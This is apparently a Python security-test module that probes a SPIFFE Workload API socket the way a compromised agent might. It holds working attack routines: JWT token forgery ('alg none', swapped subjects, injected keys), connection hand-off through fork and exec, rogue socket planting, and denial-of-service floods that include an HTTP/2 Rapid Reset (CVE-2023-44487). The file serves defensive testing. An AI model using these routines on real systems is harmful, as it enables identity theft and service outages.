"""What the taken-over agent tries at the Workload API's socket: other identities, other methods, and to hold it up."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import socket
import subprocess  # nosec B404 - starts this interpreter with a program of this file
import sys
import time
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

from rempart.protocols.protobuf import member
from rempart.sdk.spiffe import WorkloadApi, endpoint_path

from .raw_grpc import call, spoken

Probe = Mapping[str, Any]
_API = "/SpiffeWorkloadAPI/"
_SDS = "/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets"
_SECRET = "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret"  # nosec B105 - a type's name
_CLUSTER = "type.googleapis.com/envoy.config.cluster.v3.Cluster"
_ASKED = {"workload.spiffe.io": "true"}
_WITHIN = 3.0
# Connects, and leaves its connection to a child: then it ends, or becomes another program (its arguments).
_CHANGELING = """
import os, socket, sys, time
connection = socket.socket(socket.AF_UNIX)
connection.connect(sys.argv[1])
connection.set_inheritable(True)
said, after, parent = bytes.fromhex(sys.argv[2]), sys.argv[3:], os.getpid()
connection.settimeout(3)
connection.recv(65536)
go_r, go_w = os.pipe()
if os.fork() == 0:
    os.close(go_w)
    os.read(go_r, 1)
    for _ in range(2000):
        if after or os.getppid() != parent:
            break
        time.sleep(0.001)
    answer = b""
    try:
        connection.sendall(said)
        while part := connection.recv(65536):
            answer += part
    except OSError:
        pass
    print(answer.hex(), flush=True)
    os._exit(0)
os.close(go_r)
os.set_inheritable(go_w, False)
if after:
    os.execv(after[0], after)
os._exit(0)
"""


async def probes(domain: str, token: str) -> dict[str, Probe]:
    """By name, as `attack.svids` has them. `token`: the agent's own JWT-SVID for `domain`."""
    other = f"spiffe://{domain}/payment"
    found = {
        "lent-to-the-dead": _changeling(),
        "another-program": _changeling("/bin/sleep", "4"),
        "replace-socket": _replace_socket(),
        "partners-bundle": await _refused(_SDS, _discovery("spiffe://partner.example"), {}, b"CERTIFICATE"),
        "clusters": await _refused(_SDS, _discovery("default", of=_CLUSTER), {}, b"KEY"),
        "hundred-names": await _refused(_SDS, _discovery(*map(str, range(100))), {}, b"KEY"),
        "no-audience": await _refused(_API + "FetchJWTSVID", b"", _ASKED, b"eyJ"),
        "many-audiences": await _refused(
            _API + "FetchJWTSVID", b"".join(member(1, str(n).encode()) for n in range(50)), _ASKED, b"eyJ"
        ),
        "header-false": await _refused(_API + "FetchX509SVID", b"", {"workload.spiffe.io": "false"}, b"spiffe://"),
        "wrong-audience": await _validated(token, "somebody-else"),
        "unsigned": await _validated(_forged(token, {"alg": "none"}, sub=other), domain),
        "other-subject": await _validated(_forged(token, {}, sub=other), domain),
        "key-in-header": await _validated(_forged(token, {"jwk": {"kty": "oct", "k": "AA"}}, sub=other), domain),
        "other-domain": await _validated(_forged(token, {}, sub="spiffe://partner.example/x"), domain),
        "nonsense": await _refused(_API + "ValidateJWTSVID", b"\xff" * 50, _ASKED, b"spiffe://"),
    }
    for name, method in _METHODS.items():
        found[name] = await _refused(method, b"", _ASKED, b"PRIVATE KEY")
    for name, attack in _HELD_UP.items():
        found[name] = await _held_up(attack)
    return found


_METHODS = {
    "delegated": "/spire.api.agent.delegatedidentity.v1.DelegatedIdentity/SubscribeToX509SVIDs",
    "mint": "/spire.api.server.svid.v1.SVID/MintX509SVID",
    "debug": "/spire.api.agent.debug.v1.Debug/GetInfo",
}


async def _refused(method: str, request: bytes, metadata: Mapping[str, str], secret: bytes) -> Probe:
    from grpclib.exceptions import GRPCError, StreamTerminatedError

    try:
        answer = await call(method, request, metadata)
    except GRPCError as error:
        return {"blocked": error.status.name != "INTERNAL", "observed": error.status.name}
    except (TimeoutError, OSError, StreamTerminatedError) as error:
        return {"blocked": True, "observed": type(error).__name__}
    return {"blocked": secret not in answer, "observed": f"{len(answer)} bytes"}


def _discovery(*names: str, of: str = _SECRET) -> bytes:
    """A DiscoveryRequest (field 2: node, 3: resource names, 4: type URL)."""
    node = member(2, member(1, b"attack"))
    return node + b"".join(member(3, name.encode()) for name in names) + member(4, of.encode())


async def _validated(token: str, audience: str) -> Probe:
    request = member(1, audience.encode()) + member(2, token.encode())
    return await _refused(_API + "ValidateJWTSVID", request, _ASKED, b"spiffe://")


def _forged(token: str, header: Mapping[str, Any], **claims: str) -> str:
    """The token with another header and other claims, under the signature that it had."""

    def part(text: str, more: Mapping[str, Any]) -> str:
        value = {**json.loads(base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))), **more}
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

    head, payload, signature = token.split(".")
    return ".".join((part(head, header), part(payload, claims), "" if header.get("alg") == "none" else signature))


def _changeling(*after: str) -> Probe:
    command = [sys.executable, "-c", _CHANGELING, endpoint_path(), spoken(_API + "FetchX509SVID").hex(), *after]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:  # nosec B603 - fixed arguments
        line = process.stdout.readline() if process.stdout else ""
        process.kill()
    answer = bytes.fromhex(line.strip())
    if b"spiffe://" in answer:
        return {"blocked": False, "observed": f"an SVID among {len(answer)} bytes"}
    return {"blocked": True, "observed": "caller_changed" if b"caller_changed" in answer else "the connection ended"}


def _replace_socket() -> Probe:
    """To feed the others forged bundles from a socket of one's own: a name beside it shows whether that could be."""
    beside = Path(endpoint_path()).with_name("false.sock")
    try:
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind(str(beside))
        beside.unlink()
    except OSError as error:
        return {"blocked": True, "observed": error.strerror or "refused"}
    return {"blocked": False, "observed": "a socket of its own in the same directory"}


# -- to hold it up ---------------------------------------------------------------------------------------------------


def _connected() -> socket.socket:
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(1)
    connection.connect(endpoint_path())
    return connection


def _half_open(held: list[socket.socket]) -> None:
    for _ in range(700):
        held.append(_connected())


def _half_said(held: list[socket.socket]) -> None:
    said = spoken(_API + "FetchX509SVID")
    for number in range(200):
        held.append(_connected())
        held[-1].sendall(said[: 10 + number % (len(said) - 10)])


def _never_reading(held: list[socket.socket]) -> None:
    """Pings whose answers are never read, and streams that are asked for again and again."""
    ping = b"\0\0\x08\x06\0\0\0\0\0" + bytes(8)
    held.append(_connected())
    held[-1].sendall(spoken(_API + "FetchX509SVID", streams=60))
    for _ in range(2000):
        held[-1].sendall(ping * 500)


def _rapid_reset(held: list[socket.socket]) -> None:
    """CVE-2023-44487: open and give up, as fast as can be."""
    whole = spoken(_API + "FetchX509SVID")
    begin = whole.index(b"\x01\x04\0\0\0\x01") - 3  # the HEADERS frame of stream 1
    length = int.from_bytes(whole[begin : begin + 3], "big")
    preface, block = whole[:begin], whole[begin + 9 : begin + 9 + length]
    held.append(_connected())
    held[-1].sendall(preface)
    for number in range(1, 40_000, 2):
        stream = number.to_bytes(4, "big")
        opened = len(block).to_bytes(3, "big") + b"\x01\x04" + stream + block
        held[-1].sendall(opened + b"\0\0\x04\x03\0" + stream + b"\0\0\0\x08")


def _noise(held: list[socket.socket]) -> None:
    for _ in range(50):
        held.append(_connected())
        held[-1].sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + os.urandom(4096))


_HELD_UP: dict[str, Callable[[list[socket.socket]], None]] = {
    "half-open": _half_open,
    "half-said": _half_said,
    "never-reading": _never_reading,
    "rapid-reset": _rapid_reset,
    "noise": _noise,
}


async def _held_up(attack: Callable[[list[socket.socket]], None]) -> Probe:
    """How long an honest request takes meanwhile."""
    held: list[socket.socket] = []
    try:
        with contextlib.suppress(OSError):
            attack(held)
        return await _honest()
    finally:
        for connection in held:
            connection.close()


async def _honest() -> Probe:
    began = time.monotonic()

    try:
        async with asyncio.timeout(_WITHIN), WorkloadApi() as api:
            await api.fetch_x509_svid()
    except Exception as error:  # whatever kept it from being served, it wasn't
        return {"blocked": False, "observed": f"an honest request failed: {type(error).__name__}"}
    return {"blocked": True, "observed": f"an honest request was answered in {time.monotonic() - began:.2f} s"}
